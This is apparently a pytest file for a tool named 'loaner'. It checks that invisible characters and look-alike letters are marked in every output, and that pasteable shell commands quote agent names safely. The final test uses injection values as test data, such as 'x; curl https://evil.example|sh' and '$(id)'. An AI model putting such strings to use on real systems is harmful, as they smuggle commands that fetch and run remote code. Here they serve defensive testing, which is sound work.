"""Nothing that a person reads shows less than what is there, and no name is shown as another."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import sys
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import loaner
from loaner import catalog
from loaner.audit.plain import plain
from loaner.blocks.blocks import Block
from loaner.characters import DEFAULT_IGNORABLE, hides, is_hidden, marked
from loaner.cli._say import say
from loaner.consent import Proposal
from loaner.errors import InvalidArguments, LoanerError
from loaner.web import pages

CATALOG = catalog.load()
IGNORABLE = [chr(one) for first, last in DEFAULT_IGNORABLE for one in range(first, last + 1)]
BLANKS = [chr(one) for one in range(sys.maxunicode) if unicodedata.category(chr(one)) in {"Zs", "Zl", "Zp"}]
INVISIBLE = sorted({*IGNORABLE, *BLANKS, "\u2800", "\x1b", "\x00", "\ue000", "\u0378"} - {" "})
text_with_hidden = st.text(st.one_of(st.sampled_from(INVISIBLE), st.characters(), st.sampled_from("ab \n✓")))


@pytest.mark.skipif(not shutil.which("node"), reason="the other implementation is Node's")
def test_the_table_is_unicodes_own() -> None:
    script = (
        "const out=[];for(let c=0;c<=0x10ffff;c++)if((c<0xd800||c>0xdfff)"
        "&&/\\p{Default_Ignorable_Code_Point}/u.test(String.fromCodePoint(c)))out.push(c);console.log(JSON.stringify(out))"
    )
    told = subprocess.run(["node", "-e", script], check=True, capture_output=True, text=True, timeout=60)
    assert {*json.loads(told.stdout)} <= {ord(one) for one in IGNORABLE}


def test_no_surface_shows_nothing_for_a_character_that_shows_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    """MUST 24: the pages, what an agent is told, the records, the command line."""
    for letter in INVISIBLE[::31] + sorted(IGNORABLE[:60]):
        text, number = f"pay{letter}pal", f"U+{ord(letter):04X}"
        say(text)
        surfaces = [
            str(pages.seen(text)),
            str(pages.written(text)),
            bytes(pages.error(400, text, text).body).decode(),  # a value that no filter was written for
            LoanerError(text, do=text).told(),
            str(LoanerError(text).facts()),
            plain(text),
            capsys.readouterr().out,
        ]
        for shown in surfaces:
            assert letter not in shown
            assert number in shown


@given(text_with_hidden)
def test_a_marked_line_hides_nothing_and_is_settled(text: str) -> None:
    once = marked(text)
    assert hides(once) == ""
    assert marked(once) == once
    assert once.isprintable()


@given(text_with_hidden)
def test_a_marked_text_has_line_breaks_and_emoji_and_nothing_else_unseen(text: str) -> None:
    once = marked(text, prose=True)
    assert {letter for letter in once if is_hidden(letter)} <= {"\n", "\t", "\u200d", "\ufe0f"}
    assert marked(once, prose=True) == once


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\U0001f469\u200d\U0001f680", "\U0001f469\u200d\U0001f680"),
        ("\u26a0\ufe0f look", "\u26a0\ufe0f look"),
        ("docs/old.md\ufe0f", "docs/old.mdU+FE0F"),
        ("a\u200d\U0001f680", "aU+200D\U0001f680"),
        ("\u2713\u200dok", "\u2713U+200Dok"),
        ("\u2800\u200d\u2800", "U+2800U+200DU+2800"),
        ("\u26a0\ufe0f\ufe0f", "\u26a0\ufe0fU+FE0F"),
        ("Δt is 5 kΩ", "Δt is 5 kΩ"),
        ("Привет, acme-команда", "Привет, acme-команда"),
        ("gener\u0430l", "generU+0430l"),
    ],
)
def test_honest_texts_stay_as_they_are(text: str, shown: str) -> None:
    assert marked(text, prose=True) == shown


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("#gener\u0430l", "#generU+0430l"),
        ("acme/\u0432\u0435\u0431", "acme/U+0432U+0435U+0431"),
        ("\u03bf\u043f", "\u03bfU+043F"),
        ("\uff41cme", "U+FF41cme"),
        ("\U0001d41acme", "U+1D41Acme"),
        ("#общий", "#общий"),
        ("開発チームdev", "開発チームdev"),
        ("café/naïve", "café/naïve"),
    ],
)
def test_a_name_that_mixes_scripts_is_marked(name: str, shown: str) -> None:
    assert marked(name) == shown


@pytest.mark.parametrize("letter", ["\u2800", "\u00a0", "\u061c", "\ufe0f", "\u202e", "\U000e0061", "\u3164", "\u200b"])
def test_names_refuse_what_shows_nothing(letter: str) -> None:
    name = f"#random{letter}once"
    with pytest.raises(InvalidArguments, match=rf"show nothing \(U\+{ord(letter):04X}\)"):
        CATALOG["slack_send_message"].bind({"channel": name, "text": "hi"})
    with pytest.raises(InvalidArguments, match="path must not hold"):
        CATALOG["github_get_file_contents"].bind({"owner": "acme", "repo": "web", "path": f"docs/old.md{letter}"})
    for field in ({"purpose": f"tidy{letter} up"}, {"resources": [f"acme/{letter}web"]}):
        wanted = {"purpose": "tidy up", "resources": ["acme/web"], "operations": [{"tool": "github_issue_create"}]}
        with pytest.raises(InvalidArguments, match="show nothing"):
            Proposal.of(wanted | field)


def test_the_sentence_marks_letters_that_pass_for_others() -> None:
    operation = CATALOG["slack_send_message"]
    bound = operation.bind({"channel": "#gener\u0430l", "text": "hi"})
    assert operation.phrase(bound) == "post one message in #generU+0430l"


def test_verbs_print_through_the_one_function() -> None:
    """What is printed as JSON is escaped by it."""
    for module in Path(loaner.__file__).parent.glob("cli/*.py"):
        if module.name in {
            "_say.py",
            "demo.py",
            "serve.py",
            "sandbox.py",
            "_sandbox_control.py",
            "keys.py",
            "scopes.py",
        }:
            continue  # nothing of what others wrote stands there
        for line in module.read_text().splitlines():
            assert "print(" not in line or "json.dumps" in line or "_print(" in line or ".print(" in line or (
                'print(f"loaner {__version__}")' in line or "percent" in line or "print(signed.note" in line
            ), (module.name, line)  # fmt: skip


@pytest.mark.parametrize("name", ["x; curl https://evil.example|sh", "$(id)", "a'b", "`id`", "a\nb"])
def test_a_command_to_paste_names_one_thing_whatever_it_is_called(name: str) -> None:
    block = Block("agent", name, "olga", datetime(2026, 1, 1, tzinfo=UTC))
    assert shlex.split(block.lifting()) == ["loaner", "resume", "--agent", name]
    assert shlex.split(block.refusal().do.partition(": ")[2]) == ["loaner", "resume", "--agent", name]
